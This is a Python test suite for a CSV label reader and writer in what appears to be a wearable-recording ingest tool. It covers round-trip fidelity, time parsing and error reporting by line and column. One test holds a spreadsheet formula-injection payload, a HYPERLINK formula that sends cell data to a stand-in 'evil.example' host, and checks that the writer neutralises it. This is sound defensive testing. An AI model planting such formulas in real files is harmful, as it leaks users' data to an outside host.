"""The one label file: what is written reads back to the bit, and what is wrong is told by line and column."""

import csv
import io
import math
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ingest.errors import RecordingError
from ingest.labels import (
    COLUMNS,
    ERRORS_MAX,
    FIRST_S,
    LAST_S,
    NOTE_MAX,
    Label,
    iso,
    read_labels,
    require_label,
    utc_seconds,
    write_labels,
)

WORD = st.text(st.characters(exclude_categories=("C", "Z")), min_size=1, max_size=12)
PHRASE = st.lists(WORD, min_size=1, max_size=4).map(" ".join)
NOTE = st.text(
    st.characters(exclude_categories=("Cs",), exclude_characters="\0") | st.sampled_from('\r\n",; '), max_size=40
)
TIME_S = st.floats(FIRST_S, LAST_S) | st.floats(1.6e9, 2e9)


@st.composite
def labels(draw: st.DrawFn) -> Label:
    start_s, end_s = sorted((draw(TIME_S), draw(TIME_S)))
    return Label(
        what=draw(PHRASE),
        start_s=start_s,
        end_s=draw(st.sampled_from((start_s, end_s))),
        rater=draw(PHRASE),
        wearer=draw(st.text("abcXYZ019_-", max_size=64)),
        onset_uncertainty_s=draw(st.floats(0, 1e300)),
        level=draw(st.none() | st.floats(allow_nan=False, allow_infinity=False)),
        note=draw(NOTE),
    )


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "'=", "''@", "'"])
def test_no_cell_is_a_formula_to_a_spreadsheet_and_each_reads_back_as_it_was_said(begins: str) -> None:
    said = f'{begins}HYPERLINK("https://evil.example/"&A1)'
    shown = said if said.isprintable() else "=what"
    label = Label(what=shown, rater=shown, wearer="-w", note=said, start_s=0.0, end_s=0.0, level=-1.0)
    text = write_labels([label])
    for cell in next(csv.reader(io.StringIO(text.split("\n", 1)[1], newline=""))):
        assert cell == "-1.0" or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert read_labels(text) == [label]


@given(given_labels=st.lists(labels(), max_size=5))
def test_what_is_written_reads_back_to_the_bit(given_labels: list[Label]) -> None:
    assert read_labels(write_labels(given_labels)) == given_labels


@given(at_s=TIME_S)
@example(-0.0)
@example(5e-324)
@example(-1e-9)
@example(1700000000.1234567)
@example(FIRST_S)
@example(LAST_S)
def test_a_time_as_iso_is_the_same_float(at_s: float) -> None:
    assert utc_seconds(iso(at_s)) == at_s
    assert utc_seconds(repr(at_s)) == at_s


@pytest.mark.parametrize(
    ("text", "utc_s"),
    [
        ("1970-01-01T00:00:01Z", 1.0),
        ("1970-01-01 00:01Z", 60.0),
        ("1970-01-01t01:00:00.25+01:00", 0.25),
        ("1969-12-31T19:00:00-0500", 0.0),
        ("1700000000.5", 1700000000.5),
        ("1.7e9", 1.7e9),
        ("-3", -3.0),
    ],
)
def test_times_come_as_iso_with_an_offset_or_as_seconds(text: str, utc_s: float) -> None:
    assert utc_seconds(text) == utc_s


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("2024-05-06T07:08:09", "time zone"),
        ("06.05.2024 07:08", "no time"),
        ("2024-02-30T00:00:00Z", "no time"),
        ("2024-05-06T07:08:09+99:00", "no time"),
        ("", "no time"),
        ("nan", "no time"),
        ("1_000", "no time"),
        ("٣", "no time"),
    ],
)
def test_a_time_that_is_none_is_refused_with_how_to_write_one(text: str, what: str) -> None:
    with pytest.raises(RecordingError, match=f"{what}.*write 2024"):
        utc_seconds(text)


def test_columns_come_in_any_order_and_most_may_be_left_out(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    path.write_bytes(b"\xef\xbb\xbfRater; start ;what\r\nJo;1970-01-01T00:00:10Z; meltdown \r\n\r\n;;\r\n")
    assert read_labels(path) == [Label(what="meltdown", start_s=10.0, end_s=10.0, rater="Jo")]


GOOD = "what,start,end,rater,level\n"


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("", "line 1: column 'what' is missing"),
        ("what,start\n", "line 1: column 'rater' is missing"),
        ("what,start,rater,levle\n", "line 1: column 'levle'"),
        ("what,start,rater,what\n", "line 1: column 'what'"),
        (GOOD + "calm,1,2,Jo\n", "line 2: 4 cells where the header has 5"),
        (GOOD + "calm,1,2,Jo,\ncalm,x,2,Jo,\n", "line 3: start: 'x' is no time"),
        (GOOD + '"ca\nlm",1,2,Jo,\n', "line 2: what"),
        (GOOD + "calm,1,2,Jo,\n\ncalm,1,2,,\n", "line 4: rater"),
        (GOOD + "calm,2,1,Jo,\n", "line 2: end: must not be before start"),
        (GOOD + "calm,1,2,Jo,high\n", "line 2: level: 'high' must be a number"),
        (GOOD + "calm,1,2,Jo,inf\n", "line 2: level: 'inf'"),
        (GOOD + "calm,1,2,Jo,1e999\n", "line 2: level: inf"),
        (GOOD + "calm,1e30,,Jo,\n", "line 2: start: 1e[+]30 must be a time between"),
        (GOOD + '"calm" x,1,2,Jo,\n', "line 2: .*quote a cell"),
        ("wearer,what,start,rater\nAnn Example,calm,1,Jo\n", "line 2: wearer: 'Ann Example' must be a pseudonym"),
        ("what,start,rater,onset_uncertainty_s\ncalm,1,Jo,-1\n", "line 2: onset_uncertainty_s: -1.0"),
        ("what,start,rater,note\ncalm,1,Jo," + "x" * (NOTE_MAX + 1) + "\n", "line 2: note"),
        ("what,start,rater,note\ncalm,1,Jo," + "x" * 200_000 + "\n", "line 2: field larger"),
    ],
)
def test_what_is_wrong_is_told_by_line_and_column(text: str, what: str) -> None:
    with pytest.raises(RecordingError, match=what):
        read_labels(text)


def test_the_first_wrong_lines_are_told_at_once() -> None:
    with pytest.raises(RecordingError) as told:
        read_labels(GOOD + "calm,x,2,Jo,\n" * 50)
    assert len(str(told.value).splitlines()) == ERRORS_MAX


def test_the_example_of_the_manual_is_read_and_written_as_it_stands() -> None:
    manual = (Path(__file__).parents[2] / "docs" / "labels.md").read_text()
    example_text = manual.split("```\n")[1]
    read = read_labels(example_text)
    assert [(each.what, each.end_s - each.start_s, each.level) for each in read] == [
        ("meltdown", 710.5, 3.0),
        ("tag", 0.0, None),
    ]
    assert write_labels(read) == example_text


def test_a_file_that_is_not_utf8_is_named(tmp_path: Path) -> None:
    (tmp_path / "labels.csv").write_bytes("what,start,rater\nruhig,1,Jörg\n".encode("latin-1"))
    with pytest.raises(RecordingError, match=r"labels\.csv: byte 26: not UTF-8"):
        read_labels(tmp_path / "labels.csv")


@given(text=st.text(max_size=200) | st.binary(max_size=200).map(lambda raw: raw.decode("latin-1")))
def test_no_text_breaks_the_reader(text: str) -> None:
    for header in ("", "what,start,rater\n", "what;start;rater;note\n"):
        try:
            read = read_labels(header + text)
        except RecordingError:
            continue
        assert read_labels(write_labels(read)) == read


@given(
    cells=st.lists(
        st.tuples(*(st.sampled_from(("", "1", "1e400", "-", "nan", "a", "0001-01-01T00:00Z", "é", '"', "w 1")),) * 8),
        max_size=3,
    )
)
def test_every_cell_is_read_or_refused(cells: list[tuple[str, ...]]) -> None:
    text = "\n".join((",".join(COLUMNS), *(",".join(row) for row in cells)))
    try:
        read = read_labels(text)
    except RecordingError:
        return
    for label in read:
        require_label(label)


@pytest.mark.parametrize(
    "wrong",
    [
        {"what": ""},
        {"what": " calm"},
        {"what": "ca\nlm"},
        {"what": "x" * 201},
        {"rater": "\udc80"},
        {"note": "\udc80"},
        {"note": "a\0"},
        {"wearer": "a b"},
        {"start_s": math.nan},
        {"end_s": 0.5},
        {"level": math.nan},
        {"onset_uncertainty_s": math.inf},
    ],
)
def test_an_unsound_label_is_not_written(wrong: dict[str, object]) -> None:
    sound: dict[str, object] = {"what": "calm", "start_s": 1.0, "end_s": 2.0, "rater": "Jo"}
    assert write_labels([Label(**sound)])
    with pytest.raises(RecordingError, match=next(iter(wrong)).removesuffix("_s")):
        write_labels([Label(**{**sound, **wrong})])
